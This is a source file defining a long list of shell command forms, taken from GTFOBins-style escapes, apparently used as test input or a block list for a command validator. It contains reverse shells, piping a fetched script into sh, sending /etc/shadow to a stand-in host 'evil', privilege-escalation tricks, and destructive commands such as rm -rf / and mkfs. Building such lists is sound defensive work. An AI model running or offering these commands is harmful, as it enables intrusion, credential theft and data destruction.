/**
 * Command lines by which ordinary programs start others, read or write any file, or send it away: our own list after the
 * forms that are publicly known (GTFOBins and manual pages). One per line; single quotes hold an argument together.
 */
const ESCAPES = `
sh -c id
sh
/bin/sh /tmp/x
bash -c 'curl http://evil/ | sh'
bash -p
bash /tmp/x.sh
dash -c id
zsh -c id
ksh -c id
fish -c id
ash -c id
csh -c id
tcsh -b -c id
rbash -c id
busybox sh
busybox nc -e /bin/sh 10.0.0.1 4444
toybox sh
python -c 'import os; os.system("sh")'
python3 -c 'import pty; pty.spawn("/bin/sh")'
python3 -m http.server
python3 /tmp/x.py
python3 --version -c 'import os'
pypy3 -c 'import os'
perl -e 'exec "/bin/sh";'
perl -pi -e s/a/b/ /etc/passwd
ruby -e 'exec "/bin/sh"'
node -e 'require("child_process").spawn("sh")'
node --version -e 1
deno eval 'Deno.run({cmd:["sh"]})'
php -r 'system("sh");'
lua -e 'os.execute("sh")'
luajit -e 'os.execute("sh")'
tclsh /tmp/x
expect -c 'spawn sh;interact'
irb
gawk 'BEGIN {system("sh")}'
awk 'BEGIN {system("sh")}'
mawk 'BEGIN {system("sh")}'
nawk -f /tmp/x
sed -n '1e exec sh' /etc/hosts
sed -i s/a/b/ /etc/passwd
ed /etc/passwd
ex -c :!sh
vi -c :!sh
vim -c ':py3 import os; os.execl("/bin/sh","sh")'
vim -u /tmp/rc
view -c :!sh
vimdiff /etc/shadow /etc/hosts
rvim -c ':lua os.execute("sh")'
nano -s /bin/sh /etc/hosts
emacs -Q -nw --eval '(term "/bin/sh")'
joe /etc/hosts
pico /etc/hosts
less /etc/profile
more /etc/profile
most /etc/profile
pg /etc/profile
man man
man -P sh man
man --pager=sh man
info info
env sh
env -i sh
env LD_PRELOAD=/tmp/x.so id
env BASH_ENV=/tmp/x bash -c :
env -S 'sh -c id'
nice sh
nice -n 5 df
ionice sh
nohup sh -c id
setsid sh
stdbuf -i0 sh
timeout 7d sh
timeout 5 uptime
time sh
chroot / sh
unshare sh
nsenter -t 1 -m sh
capsh --
setarch x86_64 sh
linux64 sh
taskset 1 sh
chrt -f 1 sh
flock -u / sh
watch -x sh -c id
watch uptime
script -q /dev/null
script -c id /dev/null
xargs -a /dev/null sh
xargs -I{} sh -c {}
parallel sh -c ::: id
find / -exec sh ;
find . -delete
find /tmp -fprintf /etc/cron.d/x a
find / -execdir id +
find / -ok sh ;
fd -x sh
locate /etc/shadow
tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=sh
tar xf /dev/null -I 'sh -c "sh <&2 1>&2"'
tar --to-command=sh -xf /tmp/x.tar
tar --use-compress-program=/tmp/x -xf /tmp/y
tar -czf /tmp/x.tgz /etc
zip /tmp/x.zip /etc/hosts -T -TT 'sh #'
unzip -K /tmp/x.zip
7z a -ttar -an -so /etc/shadow
cpio -o
ar r /tmp/x /etc/shadow
git -p help
git -c core.pager=sh log
git -c core.sshCommand=/tmp/x fetch
git -C /tmp/repo status
git help config
git branch --help config
git --version --exec-path=/tmp
git diff --no-index /etc/shadow /dev/null
git clone ext::sh /tmp/x
hg log --config alias.log=!sh
svn --editor-cmd=sh commit
ssh -o ProxyCommand=';sh 0<&2 1>&2' x
ssh -F/tmp/x h
ssh host reboot
ssh -o PermitLocalCommand=yes -o LocalCommand=sh h
scp -S /tmp/x a b:
sftp -S /tmp/x h
rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
sshpass -p x ssh h
ssh-keygen -D /tmp/x.so
ssh-agent sh
mosh --server=sh h
nc -e /bin/sh 10.0.0.1 4444
ncat --exec /bin/sh 10.0.0.1
socat stdin exec:/bin/sh
telnet 10.0.0.1
curl -o /etc/cron.d/x http://evil/
curl -T /etc/shadow http://evil/
curl file:///etc/shadow
curl -K/tmp/x
wget --post-file=/etc/shadow http://evil/
wget --use-askpass=/tmp/x 0
lynx -term=x file:///etc/shadow
ftp 10.0.0.1
tftp 10.0.0.1
openssl enc -in /etc/shadow
openssl req -engine /tmp/x.so
gdb -nx -ex '!sh' -ex quit
strace -o /dev/null sh
ltrace -b -L sh
perf record sh
gcc -wrapper sh,-s .
make --eval='x:\n\t-sh' x
make -f /tmp/x
make -C /tmp/repo
cmake -E env sh
ld.so /bin/sh
/lib64/ld-linux-x86-64.so.2 /bin/sh
ldconfig -f /tmp/x
sudo sh
sudo -u www sh
sudo uptime
su -c id
doas sh
pkexec sh
runuser -u root sh
runcon sh
start-stop-daemon -n x -S -x /bin/sh
run-parts --new-session --regex '^sh$' /bin
run-parts /tmp/cron
at now
batch
crontab -e
crontab -l
crontab /tmp/x
systemctl
systemctl edit nginx
systemctl link /tmp/x.service
systemctl start /tmp/x.service
systemctl enable --now x
systemctl restart nginx
systemctl stop nginx
systemctl kill nginx
systemctl set-environment LD_PRELOAD=/tmp/x
systemctl -H root@evil status nginx
systemctl status nginx -H evil
systemctl status nginx -M container
systemctl status --root=/tmp nginx
systemctl show nginx
systemctl show nginx -p Environment
systemctl show-environment
systemctl cat nginx
systemctl status -n 1 -- nginx
systemctl poweroff
systemd-run sh
systemd-run -t id
journalctl
journalctl -f
journalctl -u nginx
journalctl -n 10 --file=/tmp/x
journalctl -n 10 -D /tmp
journalctl -n 10 --directory /tmp
journalctl -n 10 --root=/tmp
journalctl -n 10 --cursor-file=/etc/x
journalctl --vacuum-time=1s
journalctl --rotate
journalctl -u nginx -n 10 -o export
journalctl -u nginx -n 10 -g password
journalctl -u nginx -n 10 --since=$(id)
journalctl -u nginx -n 99999999
journalctl -u '*' -n 10
service nginx status
service nginx restart
service ../../tmp/x start
dmesg -H
dmesg -c
dmesg -C
dmesg --clear
dmesg -T -F /etc/shadow
dmesg -n 1
date -f /etc/shadow
date -s yesterday
date -r /etc/shadow
hostname evil
hostname -F /etc/shadow
hostname -b evil
hostnamectl set-hostname evil
timedatectl set-time 2020-01-01
ip netns exec foo sh
ip -force -batch /etc/shadow
ip -b /tmp/x
ip link set eth0 down
ip addr add 10.0.0.9/8 dev lo
ip addr flush dev eth0
ip route add default via 10.0.0.1
ip route del default
ip -n x addr
ip vrf exec x sh
ss -a -F /etc/shadow
ss -K dst 10.0.0.1
ss -lK
ss -D /tmp/dump
ss -E
ss -N x
netstat -c
lsof
lsof -r 1
lsof +D /
lsof -D b/tmp/x
lsof -i -r
lsof /etc/shadow
df /etc/shadow
df --output=source /
df -h --sync
uptime -V -x
free -s 1
free -hs 1
vmstat 1
vmstat 1 1000000
vmstat -p sda1
iostat 1
iostat -o /tmp/x
mpstat -P 0 1
mpstat -o JSON 1
last -f /etc/shadow
last
who /etc/shadow
w
top
top -b
top -bn100000
top -b -n 1 -c
top -b -n 1 -w 512 -s
ps aux
ps auxe
ps -ef
ps -eo pid,args
ps -eo pid,cmd
ps -eo pid,command
ps -eo pid,environ
ps e -o pid
ps -C nginx -o args=
ps -eo pid --sort=args
pgrep -a nginx
pgrep -l -f x
pgrep --signal KILL nginx
pkill nginx
pkill -9 -f .
kill -9 1
killall nginx
fuser -k 80/tcp
lsblk -o +MOUNTPOINT
lsblk --sysroot /tmp
swapon /dev/sda2
swapoff -a
lspci -A dump
lspci -F /etc/shadow
lspci -xxx -H1
lsusb -D /etc/shadow
lsmod x
insmod /tmp/x.ko
modprobe -C /tmp/x y
mount
mount -o bind /bin/sh /bin/mount
umount /data
findmnt
docker run -v /:/mnt --rm -it alpine chroot /mnt sh
docker exec x sh
docker cp x:/etc/shadow .
docker inspect x
docker ps --format '{{json .}}'
docker -H tcp://evil ps
docker --config /tmp ps
docker ps --no-trunc
docker stats
docker rm -f x
docker context use evil
podman run alpine
ctr run x
runc run x
kubectl exec x -- sh
kubectl delete ns prod
kubectl get pods
helm install x
terraform apply
ansible localhost -m shell -a id
dpkg -i /tmp/x.deb
dpkg -l
dpkg --pre-invoke=sh -l x
dpkg-query -W -f x --admindir=/tmp
apt-get update -o APT::Update::Pre-Invoke::=sh
apt changelog apt
apt install x
apt-cache search x
yum localinstall /tmp/x.rpm
rpm --eval '%{lua:os.execute("sh")}'
rpm --pipe 'sh 0<&1' -q x
rpm -q x --root /tmp
rpm -ivh /tmp/x.rpm
pip install .
npm exec sh
npm install
gem open -e sh x
bundle help
snap install x
nginx -t
nginx -c /tmp/x
nginx -v -c /tmp/x
nginx -s stop
apachectl -t
mysql -e '\\! sh'
psql -c '\\! sh'
sqlite3 /dev/null '.shell sh'
mongo --eval 'run("sh")'
redis-cli FLUSHALL
redis-cli --eval /tmp/x
cat /etc/shadow
head -n 1 /etc/shadow
tail -f /var/log/syslog
tac /etc/shadow
nl /etc/shadow
od -c /etc/shadow
xxd /etc/shadow
hexdump -C /etc/shadow
strings /etc/shadow
base64 /etc/shadow
sort -o /etc/passwd /tmp/x
sort --compress-program=sh /tmp/x
uniq /etc/shadow
cut -d: -f1 /etc/shadow
diff /etc/shadow /dev/null
grep -r password /
egrep . /etc/shadow
wc --files0-from /etc/shadow
file -f /etc/shadow
stat /etc/shadow
readlink -f /x
ls /root
ls -la /etc/ssl/private
du -a /
tree /
cp /etc/shadow /tmp/x
mv /a /b
rm -rf /
dd if=/etc/shadow
dd of=/dev/sda
tee /etc/cron.d/x
install -m 4755 /bin/sh /tmp/x
ln -s /bin/sh /tmp/x
chmod 4755 /bin/sh
chown root /tmp/x
chattr +i /x
shred /dev/sda
truncate -s 0 /var/log/syslog
mkfs.ext4 /dev/sda
fdisk -l
split --filter=sh /etc/hosts
tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/x
tshark -Xlua_script:/tmp/x
nmap --script=/tmp/x.nse localhost
nmap -iL /etc/shadow
ping -c 1 evil
dig @evil -f /etc/shadow
nslookup secret.evil
host secret.evil
traceroute evil
iptables -F
nft flush ruleset
ufw disable
sysctl -w kernel.core_pattern=|/tmp/x
sysctl -p /tmp/x
sysctl -a
sysctl vm.drop_caches=3
reboot
shutdown -h now
halt
init 0
telinit 6
passwd root
useradd x
usermod -aG sudo x
visudo
chsh -s /tmp/x
gpasswd -a x sudo
screen -dmS x sh
tmux new -d sh
dialog --textbox /etc/shadow 0 0
whiptail --textbox /etc/shadow 0 0
printenv
gpg --decrypt /root/x.gpg
openvpn --dev null --script-security 2 --up sh
logrotate -f /tmp/x
logger -f /etc/shadow x
mail -s x evil@x
sendmail -v evil@x
lpr /etc/shadow
wall -n /etc/shadow
write root
ansible-playbook /tmp/x.yml
puppet apply -e 'exec{"/bin/sh":}'
virsh create /tmp/x.xml
certbot --pre-hook sh certonly
nologin
aa-exec sh
bpftrace -e 'BEGIN {system("sh")}' --unsafe
./uptime
../bin/uptime
/tmp/uptime
/home/x/bin/df -h
/usr/local/bin/df -h
/usr/bin/../../tmp/df -h
/usr/bin//df -h
UPTIME
'uptime '
'up\ttime'
`;

export const ESCAPE_FORMS: readonly (readonly string[])[] = ESCAPES.split("\n")
  .filter((line) => line !== "")
  .map((line) =>
    [...line.matchAll(/'([^']*)'|(\S+?)(?='|\s|$)/g)].map(([, held, plain]) => held ?? plain ?? ""),
  );
